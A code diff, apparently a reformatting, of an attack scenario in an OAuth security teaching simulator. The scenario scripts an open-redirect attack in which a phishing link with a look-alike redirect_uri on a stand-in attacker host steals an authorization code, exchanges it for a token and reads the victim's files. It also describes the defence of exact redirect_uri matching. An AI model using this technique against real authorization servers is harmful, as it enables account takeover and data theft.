@@ -15,12 +15,16 @@ const received = new WeakMap<object, URL>();
 export const openRedirect: AttackDef = {
   id: 'open-redirect',
   title: 'Open redirect: the code sent to a look-alike host',
-  summary: 'The attacker sends the victim a real sign-in link whose redirect_uri only starts like the client\'s.',
+  summary:
+    "The attacker sends the victim a real sign-in link whose redirect_uri only starts like the client's.",
   target: 'as',
   rules: ['A-12', 'A-13', 'C-29'],
   lesson: 'pkce-and-request',
   preconditions: [],
-  defence: { label: 'The authorization server matches redirect_uri exactly', vulnerabilities: ['as-redirect-prefix-match'] },
+  defence: {
+    label: 'The authorization server matches redirect_uri exactly',
+    vulnerabilities: ['as-redirect-prefix-match'],
+  },
   victim: { scenario: 'first-connection', registration: 'cimd' },
   lanes: ['attacker'],
   hosts: (world) => [
@@ -31,8 +35,10 @@ export const openRedirect: AttackDef = {
     }),
   ],
   explain: {
-    vulnerable: 'The server accepted https://app.example.com.attacker.example/cb because it starts with the registered origin. The real consent page, the real code, delivered to the attacker.',
-    defended: 'A-12: the redirect URI must equal a registered one exactly. The server showed an error page and redirected nowhere (A-13).',
+    vulnerable:
+      'The server accepted https://app.example.com.attacker.example/cb because it starts with the registered origin. The real consent page, the real code, delivered to the attacker.',
+    defended:
+      'A-12: the redirect URI must equal a registered one exactly. The server showed an error page and redirected nowhere (A-13).',
   },
   async act({ world, attacker, browser }) {
     const rng = world.rng('attacker');
@@ -49,19 +55,38 @@ export const openRedirect: AttackDef = {
       resource: world.urls.mcp,
     };
     for (const [k, v] of Object.entries(params)) link.searchParams.set(k, v);
-    await attacker.note('Sends the victim a sign-in link', 'An email says "Reconnect your files to MCP Simulator Desktop". The link is a genuine authorization URL with the attacker\'s redirect_uri and PKCE pair.', {
-      values: { redirect_uri: LOOKALIKE },
-    });
+    await attacker.note(
+      'Sends the victim a sign-in link',
+      'An email says "Reconnect your files to MCP Simulator Desktop". The link is a genuine authorization URL with the attacker\'s redirect_uri and PKCE pair.',
+      {
+        values: { redirect_uri: LOOKALIKE },
+      },
+    );
     await browser.navigate(link.href, { mark: 'attacker' });
     const code = received.get(world)?.searchParams.get('code');
     if (!code) return { attackerWon: false, evidence: 'No code reached the look-alike host.' };
-    await attacker.note('Receives the code', 'The victim approved a consent page naming the real client; the code arrived at the attacker\'s host.', { mark: 'stolen', values: { code: short(code) } });
-    const res = await attacker.token({ grant_type: 'authorization_code', code, client_id: world.urls.cimd, redirect_uri: LOOKALIKE, code_verifier: verifier, resource: world.urls.mcp });
+    await attacker.note(
+      'Receives the code',
+      "The victim approved a consent page naming the real client; the code arrived at the attacker's host.",
+      { mark: 'stolen', values: { code: short(code) } },
+    );
+    const res = await attacker.token({
+      grant_type: 'authorization_code',
+      code,
+      client_id: world.urls.cimd,
+      redirect_uri: LOOKALIKE,
+      code_verifier: verifier,
+      resource: world.urls.mcp,
+    });
     const token = typeof res.body.access_token === 'string' ? res.body.access_token : null;
-    if (!token) return { attackerWon: false, evidence: `The code could not be redeemed: ${String(res.body.error)}.` };
+    if (!token)
+      return { attackerWon: false, evidence: `The code could not be redeemed: ${String(res.body.error)}.` };
     const call = await attacker.callTool(token, 'read_file', { path: 'notes/plan.md' });
     return ranAsVictim(world, call)
-      ? { attackerWon: true, evidence: 'The code sent to the look-alike host became a token for the victim\'s files.' }
+      ? {
+          attackerWon: true,
+          evidence: "The code sent to the look-alike host became a token for the victim's files.",
+        }
       : { attackerWon: false, evidence: `The token did not work (${call.status}).` };
   },
 };
